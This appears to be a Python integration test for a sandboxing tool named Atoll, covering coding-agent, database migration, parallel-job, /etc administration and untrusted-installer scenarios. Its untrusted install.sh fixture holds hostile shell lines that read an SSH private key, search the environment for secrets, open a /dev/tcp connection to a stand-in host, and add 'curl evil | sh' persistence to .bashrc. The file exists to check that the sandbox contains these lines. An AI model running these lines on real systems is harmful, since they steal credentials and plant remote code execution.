#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# timeout: 600
"""Five people at work, each on a real terminal: compares Atoll's messages with the changes on disk."""
import hashlib
import http.server
import io
import json
import os
import re
import sys
import tarfile
import threading

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import atolltest as t  # noqa: E402
import manifest as mf  # noqa: E402
from gitrepo import CONFIG  # noqa: E402
from machine import Machine, MachineBox  # noqa: E402
import pgtest as pg  # noqa: E402
from screen import Screen, at_terminal  # noqa: E402

QUESTION = b"(k)"
LINE = re.compile(r"^([ADMRTmS*])  (.+?)(?:  \((?:mode|was) .*\))?$")


class Person:
    """A user with a home directory, a terminal, and a project in it."""

    def __init__(self, place, tap, who, script):
        self.place, self.tap, self.who = place, tap, who
        self.home = t.build_tree(place, who, [["create", ".gitconfig", CONFIG, 0o644], ["mkdir", "work", 0o755]],
                                 hint="home")
        self.box = t.Box(place, who, environment={"HOME": self.home, "npm_config_update_notifier": "false"})
        self.work = self.home + "/work"
        self.sh(script)
        self.before = self.disk()

    def sh(self, script, cwd=None):
        done = self.box.command(["sh", "-ec", script], cwd=cwd or self.work)
        if done.returncode != 0:
            raise RuntimeError("%s: %s" % (script, t.said(done)))
        return done.stdout.decode().rstrip("\n")

    def at_terminal(self, *arguments, answers=(), cwd=None, **more):
        return at_terminal(self.box, *arguments, answers=answers, cwd=cwd or self.work, rows=50, columns=110, **more)

    def check(self, name, good, *diagnosis):
        self.tap.check("%s, %s" % (name, self.who), good, *diagnosis)

    def disk(self):
        """Everything in the home directory except git's own files, which the test reads through git."""
        entries = {os.fsdecode(path): entry for path, entry in mf.manifest(self.home).items()}
        return {path: {key: value for key, value in entry.items() if key != "mtime" or entry["type"] != "dir"}
                for path, entry in entries.items() if ".git" not in path.split("/")}

    def changed(self):
        now = self.disk()
        return {path for path in now.keys() | self.before.keys() if now.get(path) != self.before.get(path)}

    def close(self):
        for box in json.loads(self.box.atoll("list", "--json").stdout or "[]"):
            self.box.atoll("rm", "--force", box["name"])
        self.box.drop()
        t.remove_tree(self.home)


def told(screen, below):
    """The paths of the list that a person saw; a directory with counts stands for all that is in it."""
    exact, folded = set(), set()
    for line in screen.lines:
        match = LINE.match(line)
        if not match:
            continue
        path = match.group(2)
        counted = re.match(r"(.+/)  \d.*$", path)
        (folded if counted else exact).add(os.path.normpath(os.path.join(below,
                (counted.group(1) if counted else path))))
    return exact, folded


def stands_for(path, exact, folded):
    return path in exact or any(t.is_below(path, top) for top in folded)


# ---- the developer with a coding agent ----

class Registry:
    """An npm registry on loopback with one package."""

    def __init__(self, name, files):
        data = io.BytesIO()
        with tarfile.open(fileobj=data, mode="w:gz") as tar:
            for path, text in files.items():
                info = tarfile.TarInfo("package/" + path)
                info.size, info.mode = len(text), 0o644
                tar.addfile(info, io.BytesIO(text.encode()))
        self.tarball, self.name, registry = data.getvalue(), name, self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # pylint: disable=invalid-name
                body = registry.answer(self.path)
                self.send_response(200 if body else 404)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):  # pylint: disable=arguments-differ
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = "http://localhost:%d/" % self.port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def answer(self, path):
        if path.endswith(".tgz"):
            return self.tarball
        if path.strip("/") != self.name:
            return b""
        version = {"name": self.name, "version": "1.0.0", "dist": {"tarball": self.url + self.name + "-1.0.0.tgz",
                                                                  "shasum": hashlib.sha1(self.tarball).hexdigest()}}
        return json.dumps({"name": self.name, "dist-tags": {"latest": "1.0.0"},
                           "versions": {"1.0.0": version}}).encode()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


PROJECT = """
git init -q; mkdir src test; printf 'node_modules/\\n' >.gitignore
echo 'export const price = (net: number) => net * 1.19;' >src/price.ts
echo '{"name": "shop", "version": "1.0.0", "private": true}' >package.json
echo '# Shop' >README.md; git add .; git commit -qm first; echo 'my own note' >notes.txt; echo more >>README.md
"""
AGENT = """
set -e
git switch -qc fix/price
npm install --no-audit --no-fund --loglevel=error rounding
sed -i 's/net \\* 1.19/round(net * 1.19)/' src/price.ts
echo 'require("node:test")("rounds", () => require("node:assert").equal(require("rounding")(1.006), 1.01))' >test/price.test.js
node --test test/ >/dev/null && echo 'all tests pass'
git add src test package.json package-lock.json; git commit -qm 'price: round'
echo 'try again with cents' >TODO.md
echo 'remember' >~/.agent-memory
"""


def developer(place, tap, who):
    registry = Registry("rounding", {"package.json": '{"name": "rounding", "version": "1.0.0", "main": "i.js"}',
                                     "i.js": "module.exports = n => Math.round(n * 100) / 100"})
    p = Person(place, tap, who, PROJECT)
    agent = place.fresh("agent", who) + "/agent.sh"
    with open(agent, "w", encoding="utf-8") as file:
        file.write(AGENT)
    try:
        screen = p.at_terminal("run", "--net", "allow:localhost:%d" % registry.port, "--env",
                               "npm_config_registry=" + registry.url,
                               "--ro", os.path.dirname(agent), "--", "sh", agent, answers=[(QUESTION, b"c\n")])
    finally:
        registry.close()
    changed, (exact, folded) = p.changed(), told(screen, "work")
    p.check("the developer's agent installs a package, edits, tests and commits on a branch", screen.returncode == 0 and
            "all tests pass" in screen.text and "new branch fix/price" in screen.text, screen)
    p.check("every path that the agent changed on disk stood in the list", changed and
            all(stands_for(path, exact, folded) for path in changed),
            sorted(changed), sorted(exact), sorted(folded), screen)
    modules = {path for path in changed if t.is_below(path, "work/node_modules")}
    p.check("the package is one line, with its number of files, and said to be ignored",
            "node_modules/  %d added, ignored by git" % len(modules) in
            screen.text and len(modules) > 1, screen)
    p.check("what the agent left in the home directory was said to be discarded, and is not there",
            ": .agent-memory" in screen.text and
            not os.path.exists(p.home + "/.agent-memory") and not os.path.exists(p.home + "/.npm"), screen)
    p.check("the commit is on its branch, and the developer's own edits are as they were",
            p.sh("git log --format=%s fix/price") == "price: round\nfirst" and
            p.sh("git branch --show-current") == "main" and
            p.sh("git status --porcelain") == " M README.md\n?? TODO.md\n?? notes.txt" and
            p.sh("git show fix/price:src/price.ts") == "export const price = (net: number) => round(net * 1.19);" and
            p.sh("git show --format= --name-only fix/price") == "package-lock.json\npackage.json\nsrc/price.ts\ntest/price.test.js",
            p.sh("git status --porcelain; git log --all --stat"))
    screen = p.at_terminal("undo")
    p.check("undo without a name takes all of it back", screen.returncode == 0 and not p.changed() and
            p.sh("git branch --list") == "* main", sorted(p.changed()), p.sh("git branch --list"), screen)
    p.close()


# ---- the backend developer with migrations ----

MODULES = "/var/cache/atoll-tests/knex/node_modules"
SCHEMA = "CREATE TABLE orders (id int PRIMARY KEY, net numeric); INSERT INTO orders SELECT i, i FROM generate_series(1, 500) i; " \
         "ALTER TABLE orders OWNER TO agent; GRANT CREATE ON SCHEMA public TO agent"
SERVICE = """
mkdir service; cd service; git init -q; mkdir migrations; ln -s %s node_modules; echo node_modules >.gitignore
echo 'module.exports = { client: "pg", connection: process.env.DATABASE_URL ? { host: process.env.PGHOST, user: process.env.PGUSER,
  database: process.env.PGDATABASE, port: process.env.PGPORT } : {} }' >knexfile.js
git add .; git commit -qm first
""" % MODULES
MIGRATE = """
set -e
cat >migrations/001_gross.js <<'JS'
exports.up = async knex => {
  await knex.schema.alterTable("orders", table => { table.decimal("gross", 12, 2); });
  await knex("orders").update({ gross: knex.raw("net * 1.19") });
};
exports.down = knex => knex.schema.alterTable("orders", table => table.dropColumn("gross"));
JS
node node_modules/knex/bin/cli.js migrate:latest
git add migrations; git commit -qm 'orders: add the gross price'
"""


def backend_developer(place, tap, who, server):
    p = Person(place, tap, who, SERVICE)
    server.sql("DROP SCHEMA public CASCADE; CREATE SCHEMA public; GRANT USAGE ON SCHEMA public TO agent; " + SCHEMA)
    url = "postgresql://agent@/shop?host=%s&port=%d" % (server.home, pg.PORT)
    columns = "SELECT string_agg(attname, ',' ORDER BY attnum) FROM pg_attribute WHERE attrelid = 'orders'::regclass AND attnum > 0"
    service = p.work + "/service"
    screen = p.at_terminal("run", "--git", ".", "--db", url, "--", "sh", "-c", MIGRATE, cwd=service,
                           answers=[(QUESTION, b"k\n")])
    name = re.search('kept as "([^"]+)"', screen.text)
    p.check("the backend developer's migration runs, and the database's table and the new rows are in the list",
            screen.returncode == 0 and name and
            "Batch 1 run: 1 migrations" in screen.text and "table public.orders" in screen.text and
            "migrations/001_gross.js" in screen.text, screen)
    p.check("Atoll says that other sessions wait for the table until the answer",
            "locks public.orders (AccessExclusiveLock)" in screen.text, screen)
    p.check("until then neither the repository nor the database has changed", not p.changed() and
            server.sql(columns) == "id,net" and p.sh("git log --format=%s", service) == "first", sorted(p.changed()))
    screen = p.at_terminal("commit", name.group(1) if name else "none", "-m", "gross prices", cwd=service)
    told_of = re.search(r"committed (\d+) changes", screen.text)
    p.check("the commit lands both", screen.returncode == 0 and told_of and
            p.sh("git log --format=%s", service) == "orders: add the gross price\nfirst" and
            p.sh("git status --porcelain", service) == "" and server.sql(columns) == "id,net,gross" and
            server.sql("SELECT count(*), sum(gross) FROM orders WHERE gross = round(net * 1.19, 2)") == "500|149047.50" and
            server.sql("SELECT name FROM knex_migrations") == "001_gross.js", screen, server.sql(columns))
    p.check("and nothing else of the repository", p.changed() == {"work/service/migrations/001_gross.js"},
            sorted(p.changed()))
    p.close()


# ---- the platform engineer ----

PLATFORM = r"""
import concurrent.futures, json, subprocess, sys, threading
begun = threading.Barrier(8)
atoll, top = sys.argv[1:3]
def call(*words):
    done = subprocess.run([atoll, *words, "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=top)
    return done.returncode, json.loads(done.stdout) if done.stdout else None
def job(i):
    name = "job%d" % i
    status = [call("new", name, "--dir", top)[0]]
    status.append(subprocess.run([atoll, "run", "--quiet", name, "--", "sh", "-c",
                  "echo %d >out/%d; echo %d >>shared/%d; mkdir -p deep/%d; rm -f old/%d; touch ~/stray%d" % (i, i, i, i // 4, i, i, i)], cwd=top,
                  stdin=subprocess.DEVNULL).returncode)
    code, changes = call("diff", name)
    code, shown = call("show", name)
    begun.wait()  # no job begins after another one has landed
    stray = [p["path"] for run in shown["discarded"] for group in run["groups"] for p in group["paths"]]
    code, result = call("commit", name, "--wait=60")
    return {"job": i, "status": status, "changes": sorted(c["path"] for c in changes), "discarded": stray, "code": code,
            "error": result["error"] and result["error"]["code"], "conflicts": [x["path"] for x in result["items"] if x["kind"] == "conflict"]}
with concurrent.futures.ThreadPoolExecutor(8) as pool:
    for answer in pool.map(job, range(8)):
        print("JOB " + json.dumps(answer), flush=True)
"""


def platform_engineer(place, tap, who):
    p = Person(place, tap, who,
               "mkdir tree; cd tree; mkdir out shared deep old; for i in 0 1 2 3 4 5 6 7; do echo $i >old/$i; done; echo s >shared/0; echo s >shared/1")
    tree = p.work + "/tree"
    screen = Screen([t.PYTHON, "-c", PLATFORM, p.box.program, tree], 50, 4000, (),
                    place.uid(who) if place.is_root else None, cwd=tree, env=p.box.environment, **p.box.identity())
    jobs = [json.loads(line[4:]) for line in screen.lines if line.startswith("JOB ")]
    landed = [job for job in jobs if job["code"] == 0]
    p.check("the platform engineer's program makes eight sandboxes at the same time, and each job gets an answer in JSON", len(jobs) == 8 and
            all(job["status"] == [0, 0] and len(job["changes"]) == 4 for job in jobs), screen)
    p.check("of the jobs that append to one file the first lands, and the others are told that it conflicts",
            len(landed) == 2 and
            {job["job"] // 4 for job in landed} == {0, 1} and
            all(job["error"] == "conflict" and job["conflicts"] == ["shared/%d" % (job["job"] // 4)]
                                                                  for job in jobs if job not in landed), screen)
    wanted = {"work/tree/" + path for job in landed for path in job["changes"]}
    p.check("on disk there is what the program was told, and nothing else", p.changed() == wanted and
            all(open(tree + "/shared/%d" % (job["job"] // 4), encoding="ascii").read() == "s\n%d\n" %
                job["job"] for job in landed),
            sorted(p.changed() ^ wanted), screen)
    p.check("each job was told the file that it left beside the sandbox",
            all(job["discarded"] == [p.home + "/stray%d" % job["job"]] for job in jobs), screen)
    for job in landed:
        done = p.box.atoll("undo", "job%d" % job["job"], "--json")
        p.check("undo answers in JSON: the job on shared/%d" % (job["job"] // 4), done.returncode == 0 and
                json.loads(done.stdout)["success"], t.said(done))
    p.check("and afterwards the tree is as it was", not p.changed(), sorted(p.changed()))
    for job in jobs:
        p.box.atoll("rm", "--force", "job%d" % job["job"])
    p.close()


# ---- the administrator ----

ADMINISTRATE = """
set -e
cd /etc/nginx
rm sites-enabled/default
echo 'server { listen 80; location / { return 200 "shop\\n"; } }' >conf.d/shop.conf
sed -i 's/worker_connections .*;/worker_connections 64;/' nginx.conf
nginx -t
"""


def etc_of(machine):
    return {os.fsdecode(path): entry for path,
            entry in mf.manifest(machine.path("/etc")).items() if entry["type"] != "dir"}


def administrator(place, tap):
    machine = Machine(place)
    box = MachineBox(machine, name="web")

    def at_terminal_of_machine(*arguments, answers=(), cwd="/root"):
        return Screen(machine.enter([box.program, *arguments], cwd), 50, 110, answers, None, cwd=place.root,
                      env=box.environment)
    try:
        before = etc_of(machine)
        refused = at_terminal_of_machine("run", "--dir", "/etc", "--", "true")
        tap.check("the administrator is told which switch a sandbox over /etc takes", refused.returncode != 0 and
                  "--allow-system" in refused.text, refused)
        screen = at_terminal_of_machine("run", "--dir", "/etc", "--allow-system", "--scratch", "/var/log/nginx",
                                        "--scratch", "/var/lib/nginx", "--",
                                        "sh", "-c", ADMINISTRATE, answers=[(QUESTION, b"c\n")])
        after = etc_of(machine)
        changed = {os.path.normpath(os.path.join("etc", path)) for path in before.keys() |
                   after.keys() if before.get(path) != after.get(path)}
        exact, folded = told(screen, "etc")
        tap.check("nginx accepts the new configuration inside, and it lands", screen.returncode == 0 and
                  "test is successful" in screen.text and
                  changed == {"etc/nginx/conf.d/shop.conf", "etc/nginx/nginx.conf", "etc/nginx/sites-enabled/default"},
                  sorted(changed), screen)
        tap.check("the list on the terminal was what changed in /etc", exact == changed and not folded,
                  sorted(exact ^ changed), screen)
        tap.check("nginx outside accepts it too", box.command(["nginx", "-t"]).returncode == 0)
        screen = at_terminal_of_machine("undo", cwd="/etc")
        tap.check("and undo brings the old one back", screen.returncode == 0 and etc_of(machine) == before, screen)
    finally:
        box.drop()
        machine.close()


# ---- the cautious person ----

DOWNLOADS = """
mkdir downloads; cd downloads; echo mine >mine.txt
mkdir ~/.ssh; echo 'PRIVATE KEY' >~/.ssh/id_ed25519; chmod 700 ~/.ssh; chmod 600 ~/.ssh/id_ed25519
echo 'alias ll=ls' >~/.bashrc; echo letter >~/letter.txt
cat >install.sh <<'SH'
cat ~/.ssh/id_ed25519 2>/dev/null && echo STOLEN
env | grep -c 'TOKEN\\|SECRET'
(exec 3<>/dev/tcp/telemetry.example.com/443) 2>/dev/null && echo SENT
echo 'curl evil | sh' >>~/.bashrc
rm -f ~/letter.txt
mkdir -p ~/.config/tool; echo persist >~/.config/tool/autostart
mkdir tool; echo 'the tool' >tool/bin
echo changed >>mine.txt
SH
"""


def cautious_person(place, tap, who):
    p = Person(place, tap, who, DOWNLOADS)
    downloads = p.work + "/downloads"
    words = ("run", "--untrusted", "--", "bash", "install.sh")
    secret = {"MY_TOKEN": "t0ken", "AWS_SECRET_ACCESS_KEY": "s3cret"}
    screen = p.at_terminal(*words, cwd=downloads, environment=secret, answers=[(QUESTION, b"x\n")])
    exact, _ = told(screen, "work/downloads")
    p.check("the cautious person's script sees no key, no token and no network", "PRIVATE" not in screen.text and
            "STOLEN" not in screen.text and "SENT" not in screen.text and screen.lines[0] == "0", screen)
    p.check("the report names the host, and the file in the home directory", "telemetry.example.com" in screen.text and
            all(name in screen.text for name in (".bashrc", "letter.txt", "autostart")) and
            "untrusted: " in screen.text, screen)
    p.check("what it changed in the directory is listed",
            exact == {"work/downloads/" + name for name in ("tool", "tool/bin", "mine.txt")}, sorted(exact), screen)
    p.check("and after the answer x nothing of it is on disk", not p.changed() and
            json.loads(p.box.atoll("list", "--json").stdout) == [], sorted(p.changed()))
    screen = p.at_terminal(*words, cwd=downloads, environment=secret, answers=[(QUESTION, b"c\n")])
    p.check("with the answer c exactly the list lands", screen.returncode == 0 and p.changed() == exact,
            sorted(p.changed() ^ exact), screen)
    p.close()


def with_server(place, tap):
    if not os.path.exists(MODULES + "/knex/bin/cli.js"):
        tap.skip("the backend developer", "knex could not be fetched by npm")
        return
    if not pg.binaries():
        tap.skip("the backend developer", "no PostgreSQL server is installed")
        return
    server = pg.Server(place)
    try:
        server.sql("CREATE ROLE agent LOGIN")
        for who in place.users():
            backend_developer(place, tap, who, server)
    finally:
        server.stop()


def main(place, tap):
    for who in place.users():
        for story in (developer, platform_engineer, cautious_person):
            if t.only(story.__name__):
                story(place, tap, who)
    if t.only("backend_developer"):
        with_server(place, tap)
    if t.only("administrator"):
        if not place.is_root or not t.has("/usr/sbin/nginx"):
            tap.skip("the administrator", "root only" if not place.is_root else "nginx is not installed")
        else:
            administrator(place, tap)


t.run(main)
